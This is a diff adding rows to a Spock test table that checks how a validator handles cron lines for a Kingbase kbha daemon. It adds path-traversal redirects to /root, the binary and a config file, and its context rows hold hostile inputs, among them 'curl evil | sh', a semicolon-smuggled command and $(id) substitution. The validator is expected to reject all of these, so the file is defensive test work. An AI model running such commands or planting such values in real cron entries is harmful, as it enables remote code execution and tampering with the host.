@@ -109,6 +109,11 @@ class KingbaseSpec extends Specification {
         '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >/dev/null 2>&1'              | '>> /dev/null 2>&1'
         '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >> /root/.bashrc 2>&1'        | null
         '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >> /x/../../root/a 2>&1'      | null
+        '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >> /x/..//..//root/a.log 2>&1' | null
+        '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >> /x/./.././root/a.log 2>&1' | null
+        '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >> /x/bin/kbha 2>&1'          | null
+        '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >> /x/data/kingbase.auto.conf 2>&1' | null
+        '*/1 * * * * /x/bin/../bin/kbha -A daemon -f /y/r.conf >> /x/bin/../log/kbha.log 2>&1' | '/bin/kbha -A daemon -f /etc/repmgr/repmgr.conf >> /home/kingbase/cluster/install/kingbase/log/kbha.log 2>&1'
         '* * * * * curl evil | sh # kbha'                                             | null
         "$KBHA; curl evil | sh".toString()                                            | null
         "$KBHA \$(id)".toString()                                                     | null
